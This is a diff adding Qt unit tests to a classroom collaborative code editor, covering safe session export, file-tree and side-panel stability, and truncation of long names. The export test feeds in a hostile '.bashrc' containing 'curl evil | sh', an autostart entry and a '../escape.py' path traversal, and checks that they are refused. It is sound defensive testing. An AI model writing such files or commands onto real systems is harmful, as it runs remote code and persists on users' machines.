@@ -30,6 +30,7 @@
 #include <QMenu>
 #include <QPlainTextEdit>
 #include <QPushButton>
+#include <QScrollBar>
 #include <QSpinBox>
 #include <QTabWidget>
 #include <QToolButton>
@@ -70,6 +71,9 @@ private Q_SLOTS:
     void joinWithAccessCode();
     void importsSmallAndLargeFiles();
     void exportWritesFolderAndZip();
+    void fileTreeKeepsFoldersAndScroll();
+    void sidePanelsStayPutWhileOthersWork();
+    void longNamesFit();
 
 private:
     struct Person
@@ -622,6 +626,184 @@ void TestCodePane::exportWritesFolderAndZip()
     QVERIFY(!SessionExport::isSafePath(QStringLiteral("a/ b.c")));
     QVERIFY(!SessionExport::isSafePath(QStringLiteral("a\tb.c")));
     QVERIFY(SessionExport::isSafePath(QStringLiteral("a/b c.py")));
+
+    // A session's names are anyone's: exported into a folder that has files (the home folder),
+    // ".bashrc" would replace the user's own and ".config/autostart/…" run at the next login.
+    // Only a new or empty folder is written into, and a bad name anywhere writes nothing.
+    QVERIFY(QDir().mkpath(dir.filePath(QStringLiteral("home"))));
+    QFile bashrc(dir.filePath(QStringLiteral("home/.bashrc")));
+    QVERIFY(bashrc.open(QIODevice::WriteOnly));
+    bashrc.write("mine\n");
+    bashrc.close();
+    const QList<Client::ExportedFile> dotfiles = {{QStringLiteral(".bashrc"), QStringLiteral("curl evil | sh\n")},
+                                                  {QStringLiteral(".config/autostart/x.desktop"), QStringLiteral("[Desktop Entry]\n")}};
+    QVERIFY(!SessionExport::toFolder(dir.filePath(QStringLiteral("home")), dotfiles).isEmpty());
+    QVERIFY(bashrc.open(QIODevice::ReadOnly));
+    QCOMPARE(bashrc.readAll(), QByteArray("mine\n"));
+    QVERIFY(!QFile::exists(dir.filePath(QStringLiteral("home/.config/autostart/x.desktop"))));
+    const QList<Client::ExportedFile> hostileLast = {{QStringLiteral("fine.py"), QStringLiteral("x")},
+                                                     {QStringLiteral("../escape.py"), QStringLiteral("x")}};
+    QVERIFY(!SessionExport::toFolder(dir.filePath(QStringLiteral("out3")), hostileLast).isEmpty());
+    QVERIFY(!QFile::exists(dir.filePath(QStringLiteral("out3/fine.py"))));
+}
+
+void TestCodePane::fileTreeKeepsFoldersAndScroll()
+{
+    // The pane gives the tree the file list again whenever someone's place changes (every
+    // scroll of every classmate): a folder the user closed stays closed and the tree does not
+    // jump back to the top, also when a file is added.
+    FileTreePanel panel;
+    QList<Client::CodeFileInfo> files;
+    auto add = [&files](qint64 id, const QString &path) {
+        Client::CodeFileInfo file;
+        file.id = CodeFileId(id);
+        file.path = path;
+        file.language = QStringLiteral("python");
+        files.append(file);
+    };
+    add(1, QStringLiteral("docs/notes.md"));
+    for (int i = 0; i < 40; ++i)
+        add(10 + i, QStringLiteral("src/part%1.py").arg(i, 2, 10, QLatin1Char('0')));
+    add(2, QStringLiteral("tests/test_parts.py"));
+    panel.resize(240, 220);
+    panel.show();
+    QVERIFY(QTest::qWaitForWindowExposed(&panel));
+    panel.setFiles(files);
+    auto folder = [&panel](const QString &name) -> QTreeWidgetItem * {
+        const QList<QTreeWidgetItem *> found = panel.tree()->findItems(name, Qt::MatchExactly, 0);
+        return found.isEmpty() ? nullptr : found.first();
+    };
+    QVERIFY(folder(QStringLiteral("docs")));
+    folder(QStringLiteral("docs"))->setExpanded(false);
+    QScrollBar *bar = panel.tree()->verticalScrollBar();
+    QTRY_VERIFY(bar->maximum() > 10);
+    bar->setValue(bar->maximum() / 2);
+    const int scrolled = bar->value();
+
+    panel.setFiles(files);
+    QVERIFY(!folder(QStringLiteral("docs"))->isExpanded());
+    QCOMPARE(bar->value(), scrolled);
+
+    add(99, QStringLiteral("src/extra.py"));
+    panel.setFiles(files);
+    QVERIFY(panel.itemFor(CodeFileId(99)));
+    QVERIFY(!folder(QStringLiteral("docs"))->isExpanded());
+    QVERIFY(folder(QStringLiteral("src"))->isExpanded());
+    QCOMPARE(bar->value(), scrolled);
+}
+
+void TestCodePane::sidePanelsStayPutWhileOthersWork()
+{
+    // In a class, others scroll and type all the time. The People rows are not made again for
+    // a scroll (a Follow button must stay clickable), and the comment list does not jump back
+    // to the selected thread while Ana types in the commented file, above the comments or not.
+    auto ines = person(QStringLiteral("ines"));
+    auto ana = person(QStringLiteral("ana"));
+    QVERIFY(ines && ana);
+    const CodeSessionId id = createSession(*ines, QStringLiteral("Review"));
+    QVERIFY(enter(*ines, id));
+    QString text;
+    for (int i = 0; i < 120; ++i)
+        text += QStringLiteral("line_%1 = %1\n").arg(i);
+    const CodeFileId file = createFile(*ines, QStringLiteral("review.py"), text);
+    QVERIFY(openLoaded(*ines, file));
+    QVERIFY(enter(*ana, id));
+    CollabEditor *anaEditor = openLoaded(*ana, file);
+    QVERIFY(anaEditor);
+
+    ParticipantsPanel *people = ines->pane->participantsPanel();
+    ines->pane->sideTabs()->setCurrentWidget(people);
+    QTRY_COMPARE(ines->pane->session()->fileOf(m_ana), file);
+    QTRY_VERIFY(people->followButton(m_ana) && people->followButton(m_ana)->isEnabled());
+    QTest::qWait(50);
+    const QPointer<QToolButton> follow = people->followButton(m_ana);
+    Client::CodeSessionFile *anaFile = ana->pane->session()->openedFile(file);
+    for (int top : {30, 60, 90}) {
+        anaFile->setLocalSelection(0, 0, top); // what her pane sends when she scrolls
+        QTRY_COMPARE(ines->pane->session()->participants()->participant(m_ana)->viewportTopLine, top);
+    }
+    QTest::qWait(50);
+    QVERIFY(follow);
+    QCOMPARE(people->followButton(m_ana), follow.data());
+
+    Client::CodeSession *session = ines->pane->session();
+    for (int i = 0; i < 12; ++i) {
+        const qsizetype start = session->openedFile(file)->text().indexOf(QStringLiteral("line_%1 ").arg(i * 5));
+        session->addComment(file, start, start + 4,
+                            QStringLiteral("Comment %1: long enough to wrap in the narrow side panel of the pane").arg(i));
+    }
+    CommentsPanel *comments = ines->pane->commentsPanel();
+    ines->pane->sideTabs()->setCurrentWidget(comments);
+    QTRY_COMPARE(comments->threads()->topLevelItemCount(), 12);
+    // She has the first thread selected (to answer it later) and reads the last ones.
+    comments->threads()->setCurrentItem(comments->threads()->topLevelItem(0));
+    QScrollBar *bar = comments->threads()->verticalScrollBar();
+    QTRY_VERIFY(bar->maximum() > 0);
+    bar->setValue(bar->maximum());
+    const int scrolled = bar->value();
+    QVERIFY(scrolled > 0);
+
+    anaEditor->setFocus();
+    anaEditor->setCursorPosition(119, 0);
+    QTest::keyClicks(anaEditor, QStringLiteral("# end"));
+    QTRY_VERIFY(session->openedFile(file)->text().contains(QStringLiteral("# end")));
+    QTest::qWait(50);
+    QCOMPARE(bar->value(), scrolled);
+
+    anaEditor->setCursorPosition(0, 0);
+    QTest::keyClicks(anaEditor, QStringLiteral("# top"));
+    QTest::keyClick(anaEditor, Qt::Key_Return);
+    QTRY_VERIFY(comments->threads()->topLevelItem(0)->text(0).contains(QLatin1String("review.py:2 ")));
+    QTest::qWait(50);
+    QCOMPARE(bar->value(), scrolled);
+}
+
+void TestCodePane::longNamesFit()
+{
+    // Titles and names are as long as people make them: they end with "…" and every button
+    // of the toolbar and of a person's row stays inside the pane.
+    const QString longName = QStringLiteral("Maximiliane Alexandra von Hohenberg-Schillingsfürst");
+    const Server::AuthOutcome maxi = m_server->server().auth().createAccount(QStringLiteral("maxi"), longName, Role::Student,
+                                                                            QStringLiteral("password-123"));
+    QVERIFY(maxi.ok());
+    m_server->storage().addCourseMember(m_course, maxi.user.info.id, Role::Student);
+    auto ines = person(QStringLiteral("ines"));
+    auto student = person(QStringLiteral("maxi"));
+    QVERIFY(ines && student);
+    const CodeSessionId id = createSession(*ines, QStringLiteral("Lab 12: a very long title of a session that somebody "
+                                                                 "typed into the dialog without ever stopping to think"));
+    QVERIFY(enter(*ines, id));
+    const CodeFileId file = createFile(*ines, QStringLiteral("src/algorithms/graphs/shortest_paths_with_negative_edges.py"),
+                                       QStringLiteral("x = 1\n"));
+    QVERIFY(openLoaded(*ines, file));
+    QVERIFY(enter(*student, id));
+    QVERIFY(openLoaded(*student, file));
+    ines->pane->resize(900, 600);
+    ParticipantsPanel *people = ines->pane->participantsPanel();
+    ines->pane->sideTabs()->setCurrentWidget(people);
+    QTRY_COMPARE(ines->pane->session()->fileOf(maxi.user.info.id), file);
+    QTRY_VERIFY(people->followButton(maxi.user.info.id) && people->followButton(maxi.user.info.id)->isEnabled());
+    QTest::qWait(50);
+
+    auto inside = [](QWidget *widget, QWidget *area) {
+        const QRect rect(widget->mapTo(area, QPoint(0, 0)), widget->size());
+        return widget->isVisible() && area->rect().contains(rect);
+    };
+    QListWidget *list = people->list();
+    for (QToolButton *button : {people->followButton(maxi.user.info.id), people->menuButton(maxi.user.info.id)})
+        QVERIFY(inside(button, list->viewport()));
+    for (const char *name : {"leaveButton", "commentButton", "versionsButton"})
+        QVERIFY2(inside(ines->pane->findChild<QToolButton *>(QLatin1String(name)), ines->pane.get()), name);
+    const QWidget *row = list->viewport()->findChild<QWidget *>(QStringLiteral("participant-%1").arg(maxi.user.info.id.value()));
+    QVERIFY(row);
+    const QList<QLabel *> labels = row->findChildren<QLabel *>();
+    QVERIFY(std::any_of(labels.cbegin(), labels.cend(), [&longName](const QLabel *label) {
+        return label->text().endsWith(QChar(0x2026)) && label->toolTip() == longName;
+    }));
+    const auto *title = ines->pane->findChild<QLabel *>(QStringLiteral("sessionTitle"));
+    QVERIFY(title->text().endsWith(QChar(0x2026)));
+    QVERIFY2(title->text().size() > 20, qPrintable(title->text())); // shortened, not gone
+    QVERIFY(title->toolTip().endsWith(QLatin1String("stopping to think")));
 }
 
 QTEST_MAIN(TestCodePane)
